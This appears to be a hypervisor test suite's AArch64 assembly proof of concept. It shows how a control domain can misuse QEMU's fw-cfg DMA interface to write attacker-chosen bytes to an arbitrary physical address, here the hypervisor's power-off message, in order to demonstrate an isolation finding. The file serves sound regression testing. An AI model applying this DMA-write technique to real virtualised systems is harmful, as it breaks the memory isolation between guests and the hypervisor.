/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Attack (isolation finding 2): a control domain that was handed QEMU's
 * fw-cfg device by default programs its DMA interface to copy the 4-byte
 * fw-cfg signature "QEMU" to any physical address: here `target`, which the
 * test patches to the hypervisor's "domain %s powered off" format string.
 * Then it powers off: if the copy happened, the hypervisor's own power-off
 * line reads "QEMUin ...". Position independent, MMU off; for a control
 * domain, whose memory is identity-mapped (IPA = PA).
 */
	.text
	.globl	_start
_start:
	adr	x1, req
	ldr	x2, target
	rev	x2, x2
	str	x2, [x1, #8]		/* address, big-endian */
	mov	w3, #0x0a000000		/* control = SELECT | READ, selector 0, big-endian */
	str	w3, [x1]
	mov	w3, #0x04000000		/* length = 4, big-endian */
	str	w3, [x1, #4]
	dsb	sy
	rev	x4, x1			/* the request's address, big-endian ... */
	ldr	x5, dma_reg
	str	x4, [x5]		/* ... written to FW_CFG_DMA starts the transfer */
	dsb	sy
	movz	x0, #0x0008
	movk	x0, #0x8400, lsl #16	/* PSCI SYSTEM_OFF */
	hvc	#0
1:	b	1b

	.balign	8
dma_reg: .quad	0x09020010		/* QEMU virt fw-cfg: base 0x9020000, DMA at +0x10 */
target:	.ascii	"TARGET!!"		/* patched by tests/qemu/dma-devices.sh */
	.balign	16
req:	.quad	0, 0
